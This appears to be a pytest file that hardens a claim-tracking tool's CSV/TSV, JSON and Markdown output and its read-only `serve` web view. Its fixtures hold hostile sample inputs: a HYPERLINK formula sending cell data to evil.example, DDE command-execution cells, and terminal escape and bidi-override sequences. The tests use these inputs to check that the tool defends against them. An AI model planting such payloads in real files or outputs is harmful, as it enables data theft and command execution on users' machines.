"""Issue 11, what claimtrack writes out and `serve`: spreadsheet formulas in CSV/TSV (item 8),
control characters in every output format (item 12), and a `serve` that refuses writes, refuses a
missing ledger and stops with its signal (item 14).

Tests marked "needs the CLI wiring" exercise options and messages that cli.py gains with the
hardening of `export`, `actors` and `serve`; the rest need only serialize.py and browse.py.
"""

from __future__ import annotations

import asyncio
import csv
import importlib
import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from claimtrack import serialize
from tests.test_serialize import make_claim

# --- fixtures ------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\x1b=1+1",  # an escape character is dropped, and what is left is still a formula
    "\u200b=1+1",
)
# characters a terminal acts on (or a line reader splits at) that json.dumps(ensure_ascii=False) leaves raw
UNSAFE = "\x7f\x85\x9b\u200e\u2028\u2029\u202a\u202e\u2066\u2069\ufeff"
UNSAFE_CHARS = set(UNSAFE)
HOSTILE_TITLE = '=HYPERLINK("http://evil.example","x") T\x9bitle\u202e'
HOSTILE_OUTLET = "+cmd|' /C calc'!A0 W\x85ire\u2066x"
HOSTILE_BODY = "Russia's defence ministry said troops had taken Kotlyne\u202e on Monday\x9b."


def csv_rows(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


@pytest.fixture
def hostile(cli: Any, write_article: Any) -> Any:
    """A ledger holding one article whose title, outlet and text carry formulas, C1 and bidi controls."""
    path = write_article(
        "hostile.txt", HOSTILE_BODY, title=HOSTILE_TITLE, outlet=HOSTILE_OUTLET, published="2025-01-06"
    )
    cli.ok("ingest", str(path))
    return cli


# --- item 8: formula injection -------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_a_formula_in_any_text_cell_is_written_with_a_leading_apostrophe(formula: str, delimiter: str) -> None:
    claim = make_claim(source=formula, content=formula, sentence=formula, outlet=formula, document=formula)
    (row,) = csv_rows(serialize.claims_to_csv([claim], delimiter), delimiter)
    for key in ("source", "content", "sentence", "outlet", "document"):
        assert row[key].startswith("'"), (key, row[key])
        assert row[key][1:].lstrip()[0] in "=+-@", row[key]


def test_a_formula_in_a_list_cell_is_neutralised() -> None:
    claim = make_claim(about=("=1+1", "Odesa"), notes=("@cmd", "fine"))
    (row,) = csv_rows(serialize.claims_to_csv([claim]))
    assert row["about"] == "'=1+1; Odesa"
    assert row["notes"] == "'@cmd; fine"


def test_rows_of_the_listing_commands_are_neutralised_and_numbers_are_left_alone() -> None:
    rows: list[dict[str, object]] = [
        {"id": -3, "count": 2.5, "name": "=evil()", "figure": "-5", "decimal": "+3.25", "sum": "-5+2", "plain": "Kyiv"}
    ]
    for delimiter in (",", "\t"):
        (row,) = csv_rows(serialize.rows_to_csv(rows, delimiter), delimiter)
        # numbers the code writes, and a text that is only a number, cannot run anything
        assert row["id"] == "-3" and row["count"] == "2.5"
        assert row["figure"] == "-5" and row["decimal"] == "+3.25"
        assert row["name"] == "'=evil()" and row["sum"] == "'-5+2"
        assert row["plain"] == "Kyiv"


def test_ids_are_numbers_not_neutralised_text() -> None:
    (row,) = csv_rows(serialize.claims_to_csv([make_claim(id=12, content="=1")]))
    assert row["id"] == "12"
    assert row["content"] == "'=1"


def test_raw_keeps_formula_cells_as_they_are_but_never_control_characters() -> None:
    claim = make_claim(content="=1+1", source="@cmd", sentence="-2+3 \x1b[31mred\x9b")
    (row,) = csv_rows(serialize.claims_to_csv([claim], raw=True))
    assert (row["content"], row["source"]) == ("=1+1", "@cmd")
    assert row["sentence"] == "-2+3 red"
    rows = [{"name": "=evil()", "n": 1}]
    (row,) = csv_rows(serialize.rows_to_csv(rows, "\t", raw=True), "\t")
    assert row["name"] == "=evil()"


@pytest.mark.parametrize(
    ("args", "delimiter"),
    [
        (["list", "--csv"], ","),
        (["list", "--tsv"], "\t"),
        (["search", "Kotlyne", "--csv"], ","),
        (["show", "kotlyne", "--tsv"], "\t"),
        (["show", "1", "--csv"], ","),
        (["review", "--csv"], ","),
        (["export", "--format", "csv"], ","),
        (["export", "--format", "tsv"], "\t"),
    ],
)
def test_every_csv_and_tsv_command_neutralises_formulas(hostile: Any, args: list[str], delimiter: str) -> None:
    rows = csv_rows(hostile.ok(*args).stdout, delimiter)
    assert rows, args
    for row in rows:
        assert row["outlet"] == "'+cmd|' /C calc'!A0 Wirex", (args, row["outlet"])
        if "title" in row:
            assert row["title"].startswith("'="), (args, row["title"])
        for key, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "@")), (args, key, cell)


def test_timeline_and_sources_csv_neutralise_actor_names(cli: Any, write_article: Any) -> None:
    cli.ok("actors", "add", "=HYPERLINK(1)", "--side", "independent", "--alias", "Harbour Watch")
    path = write_article(
        "harbour.txt", "Harbour Watch said troops had taken Kotlyne on Monday.", published="2025-01-06"
    )
    cli.ok("ingest", str(path))
    (timeline,) = csv_rows(cli.ok("timeline", "kotlyne", "--csv").stdout)
    assert timeline["source"] == "'=HYPERLINK(1)"
    names = {row["name"] for row in csv_rows(cli.ok("sources", "--tsv").stdout, "\t")}
    assert "'=HYPERLINK(1)" in names


def test_export_raw_cells_writes_formulas_as_they_are(hostile: Any) -> None:
    """Needs the CLI wiring: `export --raw-cells`."""
    (row,) = csv_rows(hostile.ok("export", "--format", "csv", "--raw-cells").stdout)
    assert row["outlet"] == "+cmd|' /C calc'!A0 Wirex"


def test_raw_cells_is_for_csv_and_tsv_only(hostile: Any, clean_failure: Any) -> None:
    """Needs the CLI wiring: `export --raw-cells`."""
    line = clean_failure(hostile("export", "--format", "json", "--raw-cells"), code=2)
    assert "--raw-cells" in line


# --- item 12: control characters -----------------------------------------------------


def _assert_no_unsafe(text: str, what: object) -> None:
    found = sorted({f"U+{ord(ch):04X}" for ch in text if ch in UNSAFE_CHARS or (ord(ch) < 32 and ch not in "\n\t")})
    assert not found, (what, found)


def test_json_escapes_terminal_controls_and_parses_to_the_same_text() -> None:
    claim = make_claim(sentence=f"a{UNSAFE}b \x1b[31m", outlet="\u202eevil", notes=("x\x85y",))
    for text in (serialize.claims_to_json([claim]), serialize.to_json([serialize.claim_to_dict(claim)])):
        _assert_no_unsafe(text, "json")
        assert "\\u202e" in text and "\\u0085" in text and "\\u009b" in text and "\\u001b" in text
        (back,) = json.loads(text)
        assert back == json.loads(json.dumps(serialize.claim_to_dict(claim)))
        assert back["sentence"] == f"a{UNSAFE}b \x1b[31m"
        assert back["outlet"] == "\u202eevil"


def test_json_keeps_other_non_ascii_text_as_it_is() -> None:
    text = serialize.to_json({"name": "Запоріжжя, Донецьк – «citation»"})
    assert "Запоріжжя, Донецьк – «citation»" in text


def test_json_lines_are_one_line_a_record_for_any_line_reader() -> None:
    claims = [make_claim(id=1, sentence="one\x85two\u2028three\u2029four"), make_claim(id=2, sentence="\x1c\x1d\x1e")]
    for text in (serialize.claims_to_nl(claims), serialize.rows_to_nl([serialize.claim_to_dict(c) for c in claims])):
        _assert_no_unsafe(text, "nl")
        lines = text.splitlines()  # str.splitlines splits at U+0085, U+2028, U+2029 and \x1c-\x1e too
        assert len(lines) == 2
        assert [json.loads(line)["sentence"] for line in lines] == [c.sentence for c in claims]


def test_escaping_never_breaks_an_escape_json_already_wrote() -> None:
    value = {"k\u202e": ["\\\u202e", '"\x85"', "\\u202e", "\\\\\x9b"]}
    assert json.loads(serialize.to_json(value)) == value
    assert json.loads(serialize.rows_to_nl([value])) == value


@pytest.mark.parametrize(
    "args",
    [
        ["list", "--json"],
        ["list", "--nl"],
        ["show", "1", "--json"],
        ["show", "1", "--nl"],
        ["show", "kotlyne", "--json"],
        ["search", "Kotlyne", "--nl"],
        ["review", "--json"],
        ["review", "--nl"],
        ["timeline", "kotlyne", "--json"],
        ["export", "--format", "json"],
        ["export", "--format", "nl"],
    ],
)
def test_no_json_output_carries_a_raw_control_or_bidi_character(hostile: Any, args: list[str]) -> None:
    out = hostile.ok(*args).stdout
    _assert_no_unsafe(out, args)
    records = json.loads(out) if "--json" in args or "json" in args else [json.loads(x) for x in out.splitlines()]
    strings = set(_strings(records))
    assert any("\u202e" in text and "\x9b" in text for text in strings), args  # the sentence, whole
    if args[0] != "timeline":
        assert {HOSTILE_OUTLET, HOSTILE_TITLE} <= strings, args  # escaped, not dropped: the data survive


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_claimreview_and_actor_json_escape_controls(hostile: Any) -> None:
    hostile.ok("verdict", "1", "confirmed", "--note", "seen\u202e on video\x9b")
    out = hostile.ok("export", "--format", "claimreview").stdout
    _assert_no_unsafe(out, "claimreview")
    assert json.loads(out)[0]["reviewRating"]["ratingExplanation"]
    hostile.ok("actors", "add", "Evil\u202e\x9b Watch", "--side", "independent")
    out = hostile.ok("actors", "--json").stdout
    _assert_no_unsafe(out, "actors --json")
    assert "Evil\u202e\x9b Watch" in {row["name"] for row in json.loads(out)}


@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["list", "--csv"],
        ["list", "--tsv"],
        ["show", "1"],
        ["show", "kotlyne"],
        ["review"],
        ["export", "--format", "csv"],
        ["export", "--format", "markdown"],
    ],
)
def test_tables_csv_and_markdown_drop_controls(hostile: Any, args: list[str]) -> None:
    """Already so before issue 11 (safe_text); kept here so every format is checked in one place."""
    out = hostile.ok(*args).stdout
    _assert_no_unsafe(out, args)
    assert "Kotlyne" in out


def test_markdown_report_sanitises_every_field() -> None:
    claim = make_claim(side="ukraine\x1b[2J\u202e", event_date="2025\x9b-01-01", published="2025\x85-01-02")
    out = serialize.markdown_report("kotlyne\x1b]0;title\x07\u202e", [claim])
    _assert_no_unsafe(out, "markdown")
    assert "\x1b" not in out and "\x07" not in out


def test_actors_add_echoes_the_name_without_controls(cli: Any) -> None:
    """Needs the CLI wiring: the echo of `actors add`."""
    out = cli.ok(
        "actors", "add", "Evil\x1b]0;pwned\x07\x9b31m\u202e Watch", "--side", "independent\x1b[2J", "--new-side"
    ).stdout
    _assert_no_unsafe(out, "actors add")
    assert "\x1b" not in out and "\x07" not in out
    assert "Evil" in out and "Watch" in out


def test_actors_alias_echoes_the_actor_without_controls(cli: Any) -> None:
    """Needs the CLI wiring: the echo of `actors alias`."""
    cli.ok("actors", "add", "Evil\x1b[31m\u202e Watch", "--side", "independent")
    out = cli.ok("actors", "alias", "The\x9b Watchers\x1b[2J", "Evil\x1b[31m\u202e Watch").stdout
    _assert_no_unsafe(out, "actors alias")
    assert "\x1b" not in out
    assert "now names Evil" in out


# --- item 14: serve --------------------------------------------------------------------

browse = importlib.import_module("claimtrack.browse")
needs_datasette = pytest.mark.skipif(
    importlib.util.find_spec("datasette") is None, reason="Datasette is not installed (pip install 'claimtrack[web]')"
)


def _request(app: Any, method: str, path: str) -> Any:
    import httpx

    async def send() -> Any:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return await client.request(method, path, data={"a": "b"} if method == "POST" else None)

    return asyncio.run(send())


@needs_datasette
@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
@pytest.mark.parametrize("page", ["/", "/{name}", "/{name}/claims", "/{name}/claims/1", "/{name}/disputed"])
def test_serve_answers_every_method_but_get_and_head_with_405(seeded: Any, method: str, page: str) -> None:
    from claimtrack.browse import database_name

    app = browse.application(seeded.db)
    path = page.format(name=database_name(seeded.db))
    response = _request(app, method, path)
    assert response.status_code == 405, (method, path, response.status_code, response.text[:200])
    assert response.headers["allow"] == "GET, HEAD"
    assert _request(app, "GET", path).status_code == 200
    assert _request(app, "HEAD", path).status_code == 200


@needs_datasette
@pytest.mark.parametrize("immutable", [False, True])
def test_serve_opens_the_ledger_read_only_and_never_hands_out_the_file(seeded: Any, immutable: bool) -> None:
    import sqlite3

    from claimtrack.browse import database_name

    name = database_name(seeded.db)
    ds = browse.datasette(seeded.db, immutable=immutable)
    database = ds.databases[name]
    assert database.is_mutable is not immutable
    conn = database.connect()
    with pytest.raises(sqlite3.OperationalError, match="readonly"):
        conn.execute("DELETE FROM claims")
    conn.close()
    app = browse.application(seeded.db, immutable=immutable)
    rows = _request(app, "GET", f"/{name}/disputed_claims.json?_shape=array").json()
    assert len(rows) == 3
    assert _request(app, "GET", f"/{name}.db").status_code == 403


@needs_datasette
def test_serve_refuses_a_missing_ledger_in_the_back_end(tmp_path: Path) -> None:
    missing = tmp_path / "none.db"
    with pytest.raises(browse.ServeError, match="no ledger") as caught:
        browse.datasette(missing)
    assert caught.value.database
    assert not missing.exists()


def test_serve_refuses_a_missing_ledger(cli: Any, monkeypatch: pytest.MonkeyPatch, clean_failure: Any) -> None:
    """Needs the CLI wiring: today `serve` creates an empty ledger and serves it."""
    calls: list[object] = []
    monkeypatch.setattr(browse, "datasette_available", lambda: True)
    monkeypatch.setattr(browse, "serve", lambda *args, **kwargs: calls.append(args) or 0)
    line = clean_failure(cli("serve"), code=3)
    assert "no database" in line or "no ledger" in line
    assert not cli.db.exists()
    assert not calls


def test_safe_stream_drops_controls_from_what_the_server_logs() -> None:
    target = io.StringIO()
    stream = browse.SafeStream(target)
    print("ERROR: sql = 'select \x1b]0;pwned\x07\x9b31m\u202e'", file=stream)
    assert target.getvalue() == "ERROR: sql = 'select 31m'\n"


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _answers(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1):
            return True
    except OSError:
        return False


def _wait_until_up(server: subprocess.Popen[bytes], url: str) -> None:
    for _ in range(150):
        if server.poll() is not None:
            pytest.fail(f"serve exited with {server.returncode} before answering")
        try:
            with urllib.request.urlopen(url, timeout=1):  # closed, or its socket leaks (ResourceWarning)
                return
        except urllib.error.HTTPError as error:
            error.close()
            return
        except OSError:
            time.sleep(0.2)
    pytest.fail("serve never answered")


def _group_alive(pgid: int) -> bool:
    try:
        os.killpg(pgid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


@pytest.fixture
def served(seeded: Any, tmp_path: Path) -> Iterator[tuple[subprocess.Popen[bytes], int, Path, Path]]:
    """`claimtrack serve` in its own session on 127.0.0.1, TMPDIR in a folder of its own; every
    process left in the session is killed afterwards, whatever the test found."""
    port = _free_port()
    temp = tmp_path / "tmp"
    temp.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("CLAIMTRACK_")}
    env["TMPDIR"] = str(temp)
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "claimtrack",
            "--db",
            str(seeded.db),
            "serve",
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=env,
        start_new_session=True,
    )
    try:
        _wait_until_up(server, f"http://127.0.0.1:{port}/")
        yield server, port, temp, seeded.db
    finally:
        if _group_alive(server.pid):
            os.killpg(server.pid, signal.SIGKILL)
        server.wait(timeout=10)


@needs_datasette
def test_serve_answers_post_with_405_over_the_network(
    served: tuple[subprocess.Popen[bytes], int, Path, Path],
) -> None:
    from claimtrack.browse import database_name

    _, port, _, db = served
    for path in ("/", f"/{database_name(db)}/claims"):
        request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=b"a=b", method="POST")
        with pytest.raises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(request, timeout=10)
        caught.value.close()
        assert caught.value.code == 405, path


@needs_datasette
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_to_serve_stops_the_server_and_leaves_nothing_behind(
    served: tuple[subprocess.Popen[bytes], int, Path, Path], signum: int
) -> None:
    server, port, temp, _ = served
    os.kill(server.pid, signum)  # to its PID only, as `kill PID` does
    assert server.wait(timeout=20) == 0
    deadline = time.monotonic() + 10
    while (_answers(port) or _group_alive(server.pid)) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not _answers(port), "something still listens on the port"
    assert not _group_alive(server.pid), "a process of serve outlived it"
    assert list(temp.iterdir()) == [], "temporary files left behind"


@needs_datasette
def test_serve_on_a_busy_port_is_one_line(seeded: Any) -> None:
    """Needs the CLI wiring: the error of the back end as one 'claimtrack:' line."""
    with socket.socket() as blocker:
        blocker.bind(("127.0.0.1", 0))
        blocker.listen()
        port = blocker.getsockname()[1]
        env = {k: v for k, v in os.environ.items() if not k.startswith("CLAIMTRACK_")}
        result = subprocess.run(
            [sys.executable, "-m", "claimtrack", "--db", str(seeded.db), "serve", "--port", str(port)],
            capture_output=True,
            text=True,
            env=env,
            timeout=60,
            check=False,
        )
    assert result.returncode == 1, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("claimtrack: cannot listen on 127.0.0.1:"), result.stderr


@needs_datasette
def test_serve_immutable_over_the_network(seeded: Any, tmp_path: Path) -> None:
    """Needs the CLI wiring: `serve --immutable`."""
    from claimtrack.browse import database_name

    port = _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("CLAIMTRACK_")}
    server = subprocess.Popen(
        [sys.executable, "-m", "claimtrack", "--db", str(seeded.db), "serve", "--immutable", "--port", str(port)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=env,
        start_new_session=True,
    )
    try:
        url = f"http://127.0.0.1:{port}/{database_name(seeded.db)}/disputed_claims.json?_shape=array"
        _wait_until_up(server, url)
        with urllib.request.urlopen(url, timeout=10) as response:
            assert len(json.loads(response.read())) == 3
    finally:
        if _group_alive(server.pid):
            os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=20)


@pytest.mark.parametrize(
    ("host", "loopback"),
    [
        ("127.0.0.1", True),
        ("127.0.0.2", True),
        ("localhost", True),
        ("::1", True),
        ("[::1]", True),
        ("0.0.0.0", False),
        ("::", False),
        ("192.168.1.5", False),
        ("example.org", False),
    ],
)
def test_which_addresses_keep_serve_to_this_machine(host: str, loopback: bool) -> None:
    assert browse.is_loopback(host) is loopback
